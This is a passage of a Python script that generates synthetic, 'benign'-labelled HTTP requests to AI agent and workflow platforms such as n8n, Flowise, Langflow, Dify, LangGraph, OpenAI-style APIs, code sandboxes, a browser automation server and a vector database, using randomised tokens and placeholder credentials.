        C.req(cat, "a2a-push-received", "POST", "hooks.acme-ai.dev", "/a2a/notify", "a2a-python/0.3.4",
              json.dumps(ev, ensure_ascii=False), extra=[["X-A2A-Notification-Token", alnum(24)]])
    # agent registry / console
    card = {"name": "Currency Agent", "description": "Converts currencies using ECB reference rates. Supports 30+ currencies — e.g. USD→EUR, JPY→GBP.",
            "url": "https://currency-agent.agents.acme-ai.dev/", "version": "1.2.0", "protocolVersion": "0.3.0",
            "capabilities": {"streaming": True, "pushNotifications": True},
            "defaultInputModes": ["text/plain"], "defaultOutputModes": ["text/plain", "application/json"],
            "skills": [{"id": "convert_currency", "name": "Currency conversion", "description": "Convert an amount between two currencies",
                        "tags": ["finance", "fx"], "examples": ["How much is 100 USD in CAD?"]}],
            "provider": {"organization": "ACME AI", "url": "https://acme-ai.dev"}}
    C.req(cat, "a2a-registry", "POST", "agent-registry.agents.svc.cluster.local", "/api/agents", "python-httpx/0.28.1",
          json.dumps(card, ensure_ascii=False))
    C.req(cat, "a2a-registry", "GET", "agent-registry.agents.svc.cluster.local", "/api/agents?skill=finance&limit=20&page=2",
          R.choice(BROWSERS), accept="application/json")
    # REST binding (v0.3)
    C.req(cat, "a2a-rest", "POST", "agents.acme-ai.dev", "/v1/message:send", "a2a-python/0.3.4",
          json.dumps({"message": a2a_msg("What's the weather in Nairobi tomorrow?")}))
    C.req(cat, "a2a-rest", "GET", "agents.acme-ai.dev", "/v1/tasks/%s?historyLength=3" % rid_uuid(), "a2a-python/0.3.4",
          accept="application/json")


def benign_n8n(C):
    cat = "benign"
    host = "n8n.acme-ai.dev"
    for _ in range(6):
        body = {"event": R.choice(["order.created", "ticket.updated", "form.submitted"]), "id": R.randint(10 ** 5, 10 ** 6),
                "customer": {"name": R.choice(NAMES), "email": R.choice(EMAILS)}, "total": round(R.uniform(5, 900), 2),
                "items": [{"sku": "SKU-" + alnum(6).upper(), "qty": R.randint(1, 4)}], "created_at": iso()}
        C.req(cat, "n8n-webhook", "POST", host, "/webhook/" + rid_uuid(), R.choice(["Shopify-Captain-Hook", "Zendesk Webhook", "axios/1.7.9"]),
              json.dumps(body, ensure_ascii=False), extra=[["X-Request-Id", rid_uuid()]])
    for _ in range(3):
        f = {"name": R.choice(NAMES), "email": R.choice(EMAILS), "message": R.choice(QUESTIONS), "consent": "on"}
        C.req(cat, "n8n-form", "POST", host, "/form/" + rid_uuid(), R.choice(BROWSERS), qs(f), "application/x-www-form-urlencoded",
              extra=[["Origin", "https://n8n.acme-ai.dev"]])
    C.req(cat, "n8n-webhook-get", "GET", host, "/webhook/slack-cmd?" + qs({"user": "U07ABC", "text": "status of deploy #812", "team": "acme"}),
          "Slackbot 1.0 (+https://api.slack.com/robots)")
    C.req(cat, "n8n-webhook-test", "POST", host, "/webhook-test/" + rid_uuid(), "curl/8.7.1", '{"ping":true}')
    wf = {"name": "Support triage → Slack", "nodes": [
        {"parameters": {"httpMethod": "POST", "path": "support-in", "options": {}}, "name": "Webhook", "type": "n8n-nodes-base.webhook",
         "typeVersion": 2, "position": [0, 0], "id": rid_uuid()},
        {"parameters": {"model": "gpt-4.1-mini", "messages": {"values": [{"content": "=Classify this ticket: {{ $json.body.subject }}\n\n{{ $json.body.text }}"}]}},
         "name": "OpenAI", "type": "@n8n/n8n-nodes-langchain.openAi", "typeVersion": 1.8, "position": [220, 0], "id": rid_uuid()},
        {"parameters": {"conditions": {"string": [{"value1": "={{ $json.message.content }}", "operation": "contains", "value2": "urgent"}]}},
         "name": "IF urgent", "type": "n8n-nodes-base.if", "typeVersion": 2, "position": [440, 0], "id": rid_uuid()},
        {"parameters": {"channel": "#support-urgent", "text": "=:rotating_light: {{ $('Webhook').item.json.body.subject }} from {{ $('Webhook').item.json.body.email }}"},
         "name": "Slack", "type": "n8n-nodes-base.slack", "typeVersion": 2.3, "position": [660, 0], "id": rid_uuid()}],
        "connections": {"Webhook": {"main": [[{"node": "OpenAI", "type": "main", "index": 0}]]}}, "settings": {"executionOrder": "v1"}}
    C.req(cat, "n8n-workflow-create", "POST", host, "/rest/workflows", BROWSERS[0], json.dumps(wf, ensure_ascii=False),
          extra=[["Cookie", "n8n-auth=" + jwt()], ["browser-id", rid_uuid()]], accept="application/json, text/plain, */*")
    wf2 = {"name": "Daily digest", "active": True, "nodes": [
        {"parameters": {"rule": {"interval": [{"field": "cronExpression", "expression": "0 8 * * 1-5"}]}}, "name": "Schedule",
         "type": "n8n-nodes-base.scheduleTrigger", "typeVersion": 1.2},
        {"parameters": {"url": "=https://api.acme-ai.dev/v1/reports?date={{ $now.minus({days: 1}).toFormat('yyyy-MM-dd') }}",
                        "authentication": "predefinedCredentialType"}, "name": "HTTP Request", "type": "n8n-nodes-base.httpRequest", "typeVersion": 4.2},
        {"parameters": {"assignments": {"assignments": [{"name": "summary", "value": "={{ $json.items.length }} new tickets, {{ $json.items.filter(i => i.priority === 'high').length }} high priority", "type": "string"}]}},
         "name": "Edit Fields", "type": "n8n-nodes-base.set", "typeVersion": 3.4}], "connections": {}}
    C.req(cat, "n8n-workflow-update", "PATCH", host, "/rest/workflows/" + alnum(16), BROWSERS[1], json.dumps(wf2),
          extra=[["Cookie", "n8n-auth=" + jwt()]])
    for p in ["/rest/workflows?filter=%7B%22isArchived%22%3Afalse%7D&skip=0&take=50&sortBy=updatedAt%3Adesc",
              "/rest/executions?filter=%7B%22status%22%3A%22error%22%7D&limit=20", "/rest/credentials?includeScopes=true",
              "/rest/settings", "/rest/login", "/healthz", "/rest/active-workflows", "/types/nodes.json",
              "/rest/executions/%d" % R.randint(1000, 99999), "/rest/workflows/%s" % alnum(16)]:
        C.req(cat, "n8n-ui", "GET", host, p, R.choice(BROWSERS), accept="application/json, text/plain, */*",
              extra=[["Cookie", "n8n-auth=" + jwt()], ["Referer", "https://n8n.acme-ai.dev/home/workflows"]])
    C.req(cat, "n8n-login", "POST", host, "/rest/login", BROWSERS[2],
          json.dumps({"emailOrLdapLoginId": "ops@acme-ai.dev", "password": "c0rrect-Horse-battery!"}))
    C.req(cat, "n8n-api", "GET", host, "/api/v1/executions?status=success&limit=100&includeData=false", "python-requests/2.32.3",
          extra=[["X-N8N-API-KEY", "n8n_api_" + hexid(40)]], accept="application/json")
    C.req(cat, "n8n-chat", "POST", host, "/webhook/%s/chat" % rid_uuid(), BROWSERS[3],
          json.dumps({"action": "sendMessage", "sessionId": hexid(32), "chatInput": R.choice(QUESTIONS)}, ensure_ascii=False))
    C.req(cat, "n8n-chat", "POST", host, "/webhook/%s/chat" % rid_uuid(), BROWSERS[0],
          json.dumps({"action": "loadPreviousSession", "sessionId": hexid(32)}))


def benign_flowise(C):
    cat = "benign"
    host = "flowise.acme-ai.dev"
    for i in range(8):
        body = {"question": R.choice(QUESTIONS), "overrideConfig": {"sessionId": rid_uuid()}, "streaming": i % 2 == 0}
        if i % 3 == 0:
            body["history"] = [{"role": "userMessage", "content": "Hi"}, {"role": "apiMessage", "content": "Hello! How can I help you today?"}]
        if i == 4:
            body["uploads"] = [{"data": "data:image/png;base64," + png_b64(240), "type": "file", "name": "screenshot.png", "mime": "image/png"}]
        if i == 5:
            body["overrideConfig"].update({"temperature": 0.2, "vars": {"tenant": "acme-eu", "locale": "de-DE"}})
        C.req(cat, "flowise-prediction", "POST", host, "/api/v1/prediction/" + rid_uuid(),
              R.choice(BROWSERS + ["axios/1.7.9", "python-requests/2.32.3"]), json.dumps(body, ensure_ascii=False),
              extra=[["Authorization", "Bearer " + b64u(bytes(R.getrandbits(8) for _ in range(32)))]])
    for p in ["/api/v1/chatflows", "/api/v1/chatflows/" + rid_uuid(), "/api/v1/public-chatbotConfig/" + rid_uuid(),
              "/api/v1/chatmessage/%s?chatType=EXTERNAL&order=DESC&feedback=true" % rid_uuid(), "/api/v1/document-store/store",
              "/api/v1/nodes", "/api/v1/ping", "/api/v1/credentials", "/api/v1/variables", "/api/v1/marketplaces/templates"]:
        C.req(cat, "flowise-ui", "GET", host, p, R.choice(BROWSERS), accept="application/json, text/plain, */*",
              extra=[["Cookie", "connect.sid=s%3A" + alnum(32) + "." + alnum(43)], ["x-request-from", "internal"]])
    md = "# Employee Handbook\n\n## Leave policy\nFull-time staff get 28 days of paid leave per year, plus public holidays.\n\n## Expenses\nSubmit receipts within 30 days. Meals > €50 require pre-approval.\n"
    body, ct = multipart([("chunkSize", "1000"), ("chunkOverlap", "200"), ("metadata", '{"source":"handbook","version":"2025.2"}')],
                         [("files", "handbook.md", "text/markdown", md)])
    C.req(cat, "flowise-upsert", "POST", host, "/api/v1/vector/upsert/" + rid_uuid(), "python-requests/2.32.3", body, ct,
          extra=[["Authorization", "Bearer " + alnum(43)]])
    csv = "date,region,revenue\n2025-07-01,EMEA,120394.50\n2025-07-01,APAC,98311.00\n2025-07-01,AMER,210554.75\n"
    body, ct = multipart([("docId", rid_uuid()), ("replaceExisting", "true")], [("files", "revenue-q3.csv", "text/csv", csv)])
    C.req(cat, "flowise-docstore", "POST", host, "/api/v1/document-store/upsert/" + rid_uuid(), R.choice(BROWSERS), body, ct)
    C.req(cat, "flowise-feedback", "POST", host, "/api/v1/feedback/" + rid_uuid(), BROWSERS[0],
          json.dumps({"chatflowid": rid_uuid(), "chatId": rid_uuid(), "messageId": rid_uuid(), "rating": "THUMBS_UP", "content": "Spot on 👍"}, ensure_ascii=False))
    C.req(cat, "flowise-leads", "POST", host, "/api/v1/leads", BROWSERS[4],
          json.dumps({"chatflowid": rid_uuid(), "chatId": rid_uuid(), "name": "Sofia Rossi", "email": "sofia.rossi@example.it", "phone": "+39 02 1234 5678"}))
    C.req(cat, "flowise-chatflow-save", "PUT", host, "/api/v1/chatflows/" + rid_uuid(), BROWSERS[1],
          json.dumps({"name": "Support bot (EU)", "deployed": True, "isPublic": False, "category": "support;eu",
                      "chatbotConfig": json.dumps({"welcomeMessage": "Hallo! Wie kann ich helfen?", "botMessage": {"backgroundColor": "#f7f8ff"}})}, ensure_ascii=False))


def benign_langflow(C):
    cat = "benign"
    host = "langflow.acme-ai.dev"
    for i in range(8):
        body = {"input_value": R.choice(QUESTIONS), "output_type": "chat", "input_type": "chat", "session_id": rid_uuid()}
        if i % 2:
            body["tweaks"] = {"OpenAIModel-" + alnum(5): {"temperature": 0.3, "model_name": "gpt-4.1"},
                              "Prompt-" + alnum(5): {"language": R.choice(["English", "Deutsch", "Português"])}}
        C.req(cat, "langflow-run", "POST", host, "/api/v1/run/%s?stream=%s" % (rid_uuid(), "true" if i % 3 == 0 else "false"),
              R.choice(["python-requests/2.32.3", "axios/1.7.9"] + BROWSERS[:2]), json.dumps(body, ensure_ascii=False),
              extra=[["x-api-key", "sk-" + alnum(43)]])
    C.req(cat, "langflow-webhook", "POST", host, "/api/v1/webhook/" + rid_uuid(), "Stripe/1.0 (+https://stripe.com/docs/webhooks)",
          json.dumps({"id": "evt_" + alnum(24), "type": "invoice.paid", "data": {"object": {"id": "in_" + alnum(24), "amount_paid": 4900, "currency": "eur"}}}))
    for p in ["/api/v1/flows/?remove_example_flows=true&components_only=false&get_all=true&header_flows=false&page=1&size=50",
              "/api/v1/flows/" + rid_uuid(), "/api/v1/all?force_refresh=true", "/api/v1/version", "/health_check",
              "/api/v1/monitor/messages?flow_id=%s&session_id=%s" % (rid_uuid(), rid_uuid()), "/api/v1/users/whoami",
              "/api/v1/store/check/", "/api/v1/variables/", "/api/v1/auto_login"]:
        C.req(cat, "langflow-ui", "GET", host, p, R.choice(BROWSERS), accept="application/json",
              extra=[["Cookie", "access_token_lf=" + jwt() + "; refresh_token_lf=" + jwt()]])
    C.req(cat, "langflow-login", "POST", host, "/api/v1/login", BROWSERS[0], qs({"username": "admin@acme-ai.dev", "password": "Sup3r-Long-Passphrase"}),
          "application/x-www-form-urlencoded")
    body, ct = multipart([], [("file", "faq.txt", "text/plain", "Q: How do I reset my password?\nA: Use the 'Forgot password' link on the sign-in page.\n")])
    C.req(cat, "langflow-upload", "POST", host, "/api/v2/files", BROWSERS[1], body, ct, extra=[["x-api-key", "sk-" + alnum(43)]])
    C.req(cat, "langflow-build", "POST", host, "/api/v1/build/%s/flow?log_builds=true&event_delivery=polling" % rid_uuid(), BROWSERS[0],
          json.dumps({"inputs": {"input_value": "Summarise the attached PDF", "session": rid_uuid()}}))


def benign_dify(C):
    cat = "benign"
    host = "dify.acme-ai.dev"
    for i in range(7):
        body = {"inputs": {"department": R.choice(["sales", "support", "hr"])} if i % 2 else {},
                "query": R.choice(QUESTIONS), "response_mode": R.choice(["streaming", "blocking"]),
                "conversation_id": "" if i % 3 == 0 else rid_uuid(), "user": "user-" + alnum(8)}
        if i == 2:
            body["files"] = [{"type": "image", "transfer_method": "remote_url", "url": "https://cdn.acme-ai.dev/uploads/whiteboard-0923.jpg"}]
        C.req(cat, "dify-chat", "POST", host, "/v1/chat-messages", R.choice(PY_UAS + JS_UAS), json.dumps(body, ensure_ascii=False),
              extra=[["Authorization", "Bearer app-" + alnum(24)]])
    for _ in range(3):
        C.req(cat, "dify-workflow", "POST", host, "/v1/workflows/run", "python-requests/2.32.3",
              json.dumps({"inputs": {"article_url": "https://blog.acme-ai.dev/posts/agent-observability", "max_words": 150, "tone": "neutral"},
                          "response_mode": "blocking", "user": "svc-newsletter"}), extra=[["Authorization", "Bearer app-" + alnum(24)]])
    for p in ["/v1/conversations?user=user-%s&last_id=&limit=20" % alnum(8), "/v1/messages?conversation_id=%s&user=abc-123&limit=20" % rid_uuid(),
              "/v1/parameters", "/v1/meta", "/console/api/apps?page=1&limit=30&name=&is_created_by_me=false",
              "/console/api/datasets/%s/documents?page=1&limit=15&keyword=invoice" % rid_uuid(), "/v1/info"]:
        C.req(cat, "dify-api", "GET", host, p, R.choice(BROWSERS + PY_UAS), accept="application/json",
              extra=[["Authorization", "Bearer app-" + alnum(24)]])
    body, ct = multipart([("user", "user-" + alnum(8))], [("file", "whiteboard.txt", "text/plain", "Roadmap Q4:\n- SSO GA\n- audit log export\n- EU data residency 🇪🇺\n")], "py")
    C.req(cat, "dify-upload", "POST", host, "/v1/files/upload", "python-requests/2.32.3", body, ct, extra=[["Authorization", "Bearer app-" + alnum(24)]])
    C.req(cat, "dify-feedback", "POST", host, "/v1/messages/%s/feedbacks" % rid_uuid(), "axios/1.7.9",
          json.dumps({"rating": "dislike", "user": "user-x1", "content": "The answer cited the 2023 policy, not the 2025 one."}))
    C.req(cat, "dify-dataset", "POST", host, "/v1/datasets/%s/document/create-by-text" % rid_uuid(), "python-requests/2.32.3",
          json.dumps({"name": "returns-policy.md", "text": "# Returns\nItems can be returned within 30 days of delivery...\n\n## Exceptions\nGift cards & personalised items.",
                      "indexing_technique": "high_quality", "process_rule": {"mode": "automatic"}}), extra=[["Authorization", "Bearer dataset-" + alnum(24)]])
    C.req(cat, "dify-retrieve", "POST", host, "/v1/datasets/%s/retrieve" % rid_uuid(), "python-requests/2.32.3",
          json.dumps({"query": "return window for electronics", "retrieval_model": {"search_method": "hybrid_search", "top_k": 4,
                                                                                    "score_threshold_enabled": True, "score_threshold": 0.5}}))
    C.req(cat, "dify-stop", "POST", host, "/v1/chat-messages/%s/stop" % rid_uuid(), "axios/1.7.9", json.dumps({"user": "user-x1"}))
    C.req(cat, "dify-console-login", "POST", host, "/console/api/login", BROWSERS[0],
          json.dumps({"email": "ops@acme-ai.dev", "password": "Winter-is-coming-2025!", "language": "en-US", "remember_me": True}))


def benign_langgraph(C):
    cat = "benign"
    host = R.choice(["agent-api.agents.svc.cluster.local:8123", "langgraph.acme-ai.dev"])
    ua = "langgraph-sdk-py/0.2.9"
    for i in range(6):
        body = {"input": {"messages": [{"role": "user", "content": R.choice(QUESTIONS)}]}, "config": {"configurable": {"user_id": "u_" + alnum(8)}}}
        path = R.choice(["/invoke", "/chat/invoke", "/rag/invoke", "/agent/invoke"])
        if i % 3 == 1:
            body = {"input": {"question": R.choice(QUESTIONS), "chat_history": []}, "kwargs": {}}
        C.req(cat, "langserve-invoke", "POST", "chains.agents.svc.cluster.local:8000", path, R.choice(PY_UAS), json.dumps(body, ensure_ascii=False))
    C.req(cat, "langserve-batch", "POST", "chains.agents.svc.cluster.local:8000", "/summarize/batch", "python-httpx/0.28.1",
          json.dumps({"inputs": [{"text": ANSWERS[0]}, {"text": ANSWERS[7]}], "config": {"max_concurrency": 2}}))
    C.req(cat, "langserve-stream", "POST", "chains.agents.svc.cluster.local:8000", "/chat/stream_log", "python-httpx/0.28.1",
          json.dumps({"input": {"question": "Explain the returns policy"}, "include_names": ["ChatOpenAI"]}), accept="text/event-stream")
    for p in ["/chat/input_schema", "/chat/output_schema", "/chat/config_schema", "/docs", "/openapi.json", "/chat/playground/"]:
        C.req(cat, "langserve-schema", "GET", "chains.agents.svc.cluster.local:8000", p, R.choice(BROWSERS), accept="*/*")
    for i in range(4):
        C.req(cat, "langgraph-thread", "POST", host, "/threads", ua,
              json.dumps({"metadata": {"user_id": "u_" + alnum(8), "channel": R.choice(["web", "slack", "api"])}, "if_exists": "do_nothing"}),
              extra=[["X-Api-Key", "lsv2_pt_" + hexid(32) + "_" + hexid(10)]])
    for i in range(6):
        body = {"assistant_id": R.choice(["agent", "researcher", rid_uuid()]),
                "input": {"messages": [{"type": "human", "content": R.choice(QUESTIONS)}]},
                "stream_mode": R.choice([["values"], ["messages-tuple", "updates"], "events"]), "on_disconnect": "cancel"}
        if i % 2:
            body["config"] = {"configurable": {"model": "anthropic/claude-sonnet-4-5", "max_search_results": 5}}
            body["multitask_strategy"] = "enqueue"
        C.req(cat, "langgraph-run", "POST", host, "/threads/%s/runs/stream" % rid_uuid() if i % 3 else "/runs/wait", ua,
              json.dumps(body, ensure_ascii=False), accept="text/event-stream", extra=[["X-Api-Key", "lsv2_pt_" + hexid(32) + "_" + hexid(10)]])
    C.req(cat, "langgraph-resume", "POST", host, "/threads/%s/runs" % rid_uuid(), ua,
          json.dumps({"assistant_id": "agent", "command": {"resume": {"approved": True, "comment": "Looks good, send it."}}}))
    C.req(cat, "langgraph-search", "POST", host, "/assistants/search", ua, json.dumps({"graph_id": "agent", "limit": 10, "offset": 0}))
    C.req(cat, "langgraph-search", "POST", host, "/threads/search", ua,
          json.dumps({"metadata": {"user_id": "u_" + alnum(8)}, "status": "idle", "limit": 20, "sort_by": "updated_at", "sort_order": "desc"}))
    C.req(cat, "langgraph-store", "PUT", host, "/store/items", ua,
          json.dumps({"namespace": ["memories", "u_" + alnum(8)], "key": rid_uuid(),
                      "value": {"text": "Prefers answers in bullet points; vegetarian; based in Kraków.", "created": iso()}}, ensure_ascii=False))
    C.req(cat, "langgraph-state", "GET", host, "/threads/%s/state?subgraphs=true" % rid_uuid(), ua, accept="application/json")
    C.req(cat, "langgraph-state", "GET", host, "/threads/%s/history?limit=10" % rid_uuid(), ua, accept="application/json")
    C.req(cat, "langgraph-cron", "POST", host, "/runs/crons", ua,
          json.dumps({"assistant_id": "digest", "schedule": "0 7 * * 1-5", "input": {"topic": "AI infra news"}}))


def benign_openai(C):
    cat = "benign"
    host = R.choice(["llm-gateway.agents.svc.cluster.local:4000", "api.acme-ai.dev"])
    hosts = ["llm-gateway.agents.svc.cluster.local:4000", "api.acme-ai.dev", "litellm.platform.svc:4000"]
    tools = [{"type": "function", "name": "get_order_status", "description": "Look up an order by id",
              "parameters": {"type": "object", "properties": {"order_id": {"type": "string"}}, "required": ["order_id"]}},
             {"type": "function", "name": "get_weather", "description": "Current weather for a city",
              "parameters": {"type": "object", "properties": {"city": {"type": "string"}, "unit": {"type": "string", "enum": ["c", "f"]}}}}]
    for i in range(6):
        body = {"model": R.choice(["gpt-4.1", "gpt-5-mini", "o4-mini"]), "input": R.choice(QUESTIONS), "tools": tools,
                "tool_choice": "auto", "store": i % 2 == 0}
        if i % 3 == 2:
            body["previous_response_id"] = "resp_" + hexid(48)
            body["input"] = [{"type": "function_call_output", "call_id": "call_" + alnum(24),
                              "output": json.dumps({"order_id": "A-10293", "status": "shipped", "carrier": "DHL", "eta": "2025-10-09"})}]
        if i == 4:
            body["input"] = [{"role": "user", "content": [{"type": "input_text", "text": "What's in this picture?"},
                                                          {"type": "input_image", "image_url": "data:image/png;base64," + png_b64(400)}]}]
        C.req(cat, "openai-responses", "POST", R.choice(hosts), "/v1/responses", R.choice(["OpenAI/Python 1.107.0", "OpenAI/JS 5.20.1"]),
              json.dumps(body, ensure_ascii=False), extra=[["Authorization", "Bearer sk-proj-" + alnum(48)], ["OpenAI-Beta", "responses=v1"]][:1 + i % 2])
    for i in range(7):
        msgs = [{"role": "system", "content": "You are a helpful support agent for ACME. Answer concisely."},
                {"role": "user", "content": R.choice(QUESTIONS)}]
        if i % 2:
            cid = "call_" + alnum(24)
            msgs.append({"role": "assistant", "content": None, "tool_calls": [{"id": cid, "type": "function", "function": {
                "name": "get_weather", "arguments": json.dumps({"city": R.choice(CITIES), "unit": "c"}, ensure_ascii=False)}}]})
            msgs.append({"role": "tool", "tool_call_id": cid, "content": json.dumps({"temp_c": R.randint(-5, 32), "conditions": "light rain 🌧️", "humidity": 0.81}, ensure_ascii=False)})
        body = {"model": R.choice(["gpt-4o-mini", "claude-sonnet-4-5", "llama-3.3-70b-instruct", "qwen3-32b"]), "messages": msgs,
                "temperature": 0.2, "stream": i % 3 == 0, "tools": [{"type": "function", "function": {k: v for k, v in tools[1].items() if k != "type"}}]}
        if body["stream"]:
            body["stream_options"] = {"include_usage": True}
        C.req(cat, "openai-chat", "POST", R.choice(hosts), "/v1/chat/completions", R.choice(["OpenAI/Python 1.107.0", "OpenAI/JS 5.20.1", "litellm/1.77.1"]),
              json.dumps(body, ensure_ascii=False), extra=[["Authorization", "Bearer sk-" + alnum(48)]])
    for i in range(3):
        outs = [{"tool_call_id": "call_" + alnum(24), "output": json.dumps({"rows": R.randint(0, 40), "next_page": None})}]
        C.req(cat, "openai-submit-tool-outputs", "POST", host, "/v1/threads/thread_%s/runs/run_%s/submit_tool_outputs" % (alnum(24), alnum(24)),
              "OpenAI/Python 1.107.0", json.dumps({"tool_outputs": outs, "stream": False}),
              extra=[["Authorization", "Bearer sk-" + alnum(48)], ["OpenAI-Beta", "assistants=v2"]])
    C.req(cat, "openai-threads", "POST", host, "/v1/threads/thread_%s/messages" % alnum(24), "OpenAI/Python 1.107.0",
          json.dumps({"role": "user", "content": R.choice(QUESTIONS), "attachments": [{"file_id": "file-" + alnum(22), "tools": [{"type": "file_search"}]}]}, ensure_ascii=False),
          extra=[["Authorization", "Bearer sk-" + alnum(48)], ["OpenAI-Beta", "assistants=v2"]])
    C.req(cat, "openai-threads", "GET", host, "/v1/threads/thread_%s/messages?limit=20&order=desc&after=msg_%s" % (alnum(24), alnum(24)),
          "OpenAI/Python 1.107.0", extra=[["Authorization", "Bearer sk-" + alnum(48)], ["OpenAI-Beta", "assistants=v2"]])
    body, ct = multipart([("purpose", "assistants")], [("file", "policy-2025.md", "text/markdown", "# Travel policy 2025\n\n* Economy for flights < 6h\n* Hotels: max €180/night in EU capitals\n")], "py")
    C.req(cat, "openai-files", "POST", host, "/v1/files", "OpenAI/Python 1.107.0", body, ct, extra=[["Authorization", "Bearer sk-" + alnum(48)]])
    C.req(cat, "openai-embeddings", "POST", R.choice(hosts), "/v1/embeddings", "OpenAI/Python 1.107.0",
          json.dumps({"model": "text-embedding-3-small", "input": [R.choice(QUESTIONS) for _ in range(3)], "encoding_format": "base64"}, ensure_ascii=False))
    C.req(cat, "openai-models", "GET", R.choice(hosts), "/v1/models", "OpenAI/JS 5.20.1", extra=[["Authorization", "Bearer sk-" + alnum(48)]])
    C.req(cat, "anthropic-messages", "POST", R.choice(hosts), "/v1/messages", "Anthropic/Python 0.68.0",
          json.dumps({"model": "claude-sonnet-4-5", "max_tokens": 1024, "messages": [
              {"role": "user", "content": R.choice(QUESTIONS)},
              {"role": "assistant", "content": [{"type": "tool_use", "id": "toolu_" + alnum(24), "name": "get_weather", "input": {"city": "Tokyo"}}]},
              {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "toolu_" + alnum(24), "content": "22°C, clear"}]}]}, ensure_ascii=False),
          extra=[["x-api-key", "sk-ant-api03-" + alnum(80)], ["anthropic-version", "2023-06-01"]])
    C.req(cat, "openai-realtime", "POST", R.choice(hosts), "/v1/realtime/client_secrets", "OpenAI/JS 5.20.1",
          json.dumps({"session": {"type": "realtime", "model": "gpt-realtime", "audio": {"output": {"voice": "marin"}}}}))


def benign_sandbox(C):
    cat = "benign"
    for i in range(4):
        C.req(cat, "sandbox-create", "POST", "api.e2b.acme-ai.dev", "/sandboxes", "e2b-python-sdk/2.2.1",
              json.dumps({"templateID": R.choice(["code-interpreter-v1", "base", "nodejs-22", "desktop"]), "timeout": R.choice([300, 900, 3600]),
                          "metadata": {"userId": "u_" + alnum(8), "session": rid_uuid()}, "envVars": {"TZ": "UTC", "LANG": "C.UTF-8"}}),
              extra=[["X-API-Key", "e2b_" + hexid(40)]])
    C.req(cat, "sandbox-list", "GET", "api.e2b.acme-ai.dev", "/v2/sandboxes?state=running&limit=50", "e2b-python-sdk/2.2.1", extra=[["X-API-Key", "e2b_" + hexid(40)]])
    C.req(cat, "sandbox-timeout", "POST", "api.e2b.acme-ai.dev", "/sandboxes/%s/timeout" % alnum(20).lower(), "e2b-js-sdk/2.3.0",
          json.dumps({"timeout": 600}), extra=[["X-API-Key", "e2b_" + hexid(40)]])
    C.req(cat, "sandbox-kill", "DELETE", "api.e2b.acme-ai.dev", "/sandboxes/%s" % alnum(20).lower(), "e2b-js-sdk/2.3.0", extra=[["X-API-Key", "e2b_" + hexid(40)]])
    for p in ["/api/kernels", "/api/sessions", "/api/kernelspecs", "/api/contents/notebooks?type=directory&content=1",
              "/api/contents/notebooks/analysis.ipynb?content=1&hash=0", "/api/status"]:
        C.req(cat, "jupyter-api", "GET", "jupyter.sandbox-%s.svc.cluster.local:8888" % alnum(6).lower(), p + ("&" if "?" in p else "?") + "_=%d" % R.randint(1700000000000, 1760000000000),
              "python-httpx/0.28.1", extra=[["Authorization", "token " + hexid(48)]], accept="application/json")
    C.req(cat, "jupyter-kernel", "POST", "jupyter.sandbox.svc.cluster.local:8888", "/api/kernels", "python-httpx/0.28.1",
          json.dumps({"name": "python3"}), extra=[["Authorization", "token " + hexid(48)]])
    C.req(cat, "jupyter-session", "POST", "jupyter.sandbox.svc.cluster.local:8888", "/api/sessions", "python-httpx/0.28.1",
          json.dumps({"path": "notebooks/analysis.ipynb", "type": "notebook", "name": "", "kernel": {"name": "python3"}}))
    C.req(cat, "jupyter-kernel-ws", "GET", "jupyter.sandbox.svc.cluster.local:8888", "/api/kernels/%s/channels?session_id=%s" % (rid_uuid(), rid_uuid()),
          "python-httpx/0.28.1", extra=[["Connection", "Upgrade"], ["Upgrade", "websocket"], ["Sec-WebSocket-Version", "13"],
                                        ["Sec-WebSocket-Key", base64.b64encode(bytes(R.getrandbits(8) for _ in range(16))).decode()],
                                        ["Authorization", "token " + hexid(48)]])
    C.req(cat, "sandbox-files", "GET", "49983-%s.e2b.acme-ai.dev" % alnum(20).lower(), "/files?path=%2Fhome%2Fuser%2Foutput%2Fchart.png&username=user",
          "e2b-python-sdk/2.2.1", extra=[["X-Access-Token", alnum(32)]])


def benign_browser(C):
    cat = "benign"
    host = "mcp-browser.agents.svc.cluster.local:8931"
    steps = [("browser_navigate", {"url": "https://www.example-shop.com/products?category=shoes&sort=price_asc&size=43"}),
             ("browser_snapshot", {}),
             ("browser_click", {"element": "Add to cart button for 'Trail Runner 3'", "ref": "e42"}),
             ("browser_type", {"element": "Search field", "ref": "e12", "text": "running shoes size 43", "submit": True}),
             ("browser_select_option", {"element": "Country dropdown", "ref": "e77", "values": ["Deutschland"]}),
             ("browser_fill_form", {"fields": [{"name": "Email", "type": "textbox", "ref": "e5", "value": "dana.whitfield@example.com"},
                                               {"name": "Newsletter", "type": "checkbox", "ref": "e9", "value": "false"}]}),
             ("browser_take_screenshot", {"filename": "checkout-step2.png", "fullPage": False}),
             ("browser_wait_for", {"text": "Order confirmed"}),
             ("browser_navigate_back", {}),
             ("browser_tabs", {"action": "list"}),
             ("browser_press_key", {"key": "PageDown"}),
             ("browser_hover", {"element": "Pricing menu", "ref": "e3"}),
             ("browser_navigate", {"url": "https://www.google.com/maps/search/coffee+near+Alexanderplatz,+Berlin"}),
             ("browser_network_requests", {}),
             ("browser_console_messages", {"onlyErrors": True}),
             ("browser_navigate", {"url": "https://news.ycombinator.com/item?id=%d" % R.randint(40000000, 46000000)})]
    sid = session_id()
    for n, a in steps:
        tool_call(C, cat, "playwright-mcp", n, a, host=host, sid=sid, path=R.choice(["/mcp", "/mcp"]))
    C.req(cat, "browser-cdp", "GET", "browserless.agents.svc.cluster.local:3000", "/json/version", "node", accept="application/json")
    C.req(cat, "browser-session", "POST", "browser-use.acme-ai.dev", "/api/v1/run-task", "python-httpx/0.28.1",
          json.dumps({"task": "Find the cheapest direct flight from Lisbon to Zürich on Nov 12 and return the price and airline.",
                      "allowed_domains": ["google.com", "skyscanner.net"], "max_steps": 30}), extra=[["Authorization", "Bearer bu_" + alnum(40)]])


def benign_vector(C):
    cat = "benign"
    vec = lambda n=8: [round(R.uniform(-0.2, 0.2), 6) for _ in range(n)]
    for i in range(4):
        C.req(cat, "qdrant-search", "POST", "qdrant.vector.svc.cluster.local:6333", "/collections/%s/points/query" % R.choice(["docs", "kb_en", "tickets"]),
              "python-httpx/0.28.1", json.dumps({"query": vec(), "limit": 8, "with_payload": True,
                                                  "filter": {"must": [{"key": "tenant", "match": {"value": "acme-eu"}}],
                                                             "must_not": [{"key": "archived", "match": {"value": True}}]}}),
              extra=[["api-key", alnum(32)]])
